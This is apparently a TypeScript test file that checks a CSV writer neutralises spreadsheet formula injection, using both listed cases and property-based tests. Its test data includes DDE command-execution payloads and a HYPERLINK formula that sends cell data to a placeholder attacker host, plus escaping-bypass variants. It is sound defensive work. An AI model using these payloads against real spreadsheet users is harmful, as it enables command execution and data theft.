import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

/** What another reader makes of a line, with its separator. */
const read = (line: string, delimiter = ','): string[] =>
  (parse(line, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][])[0] as string[];

/** Whether a spreadsheet would calculate it (after trimming, as some do). */
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠\t\r\n]/.test(cell);

test('cells come back as they were', () => {
  const cells = ['phone:+84912345678', 'Nguyễn Văn "Tí", Bắc Giang', '', 'a-b+c=d@e', 12, null, -3];
  expect(read(csvLine(cells))).toEqual(cells.map((cell) => String(cell ?? '')));
  expect(csvLine(['a', null, 1])).toBe('"a",,1\r\n');
});

describe('a formula stays text', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '\0=1+1',
    'An;=1+1',
    'An,=1+1',
    'An\n=1+1',
    'An\r\n=1+1',
    'An";=1+1',
    'An"\r\n"=1+1',
    '"=1+1"',
    '=HYPERLINK("https://evil.example/?x="&A1,"Nguyễn Văn An")',
  ])('%j', (text) => {
    const line = csvLine(['x', text, 'y']);
    expect(line.slice(0, -2)).not.toMatch(/[\r\n]/);
    expect(read(line)).toHaveLength(3);
    for (const separator of [',', ';', '|']) {
      for (const cell of read(line, separator))
        expect([separator, cell, isFormula(cell)]).toEqual([separator, cell, false]);
      // And for one that knows no quotes.
      for (const cell of line.split(separator)) expect(isFormula(cell.replace(/^"+/, ''))).toBe(false);
    }
  });

  test('whatever the text', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@＝;,"\'|\t\r\n a0') });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        const found = read(csvLine(cells));
        expect(found).toHaveLength(cells.length);
        expect(found.filter(isFormula)).toEqual([]);
      }),
    );
  });
});

test('what is no formula is not touched', () => {
  for (const text of ['Trần Thị B - phường 3', 'a/b', 'x=1', 'e-mail@example.org', 'phone:+84912', "'"]) {
    expect(csvLine([text])).toBe(`"${text}"\r\n`);
  }
});
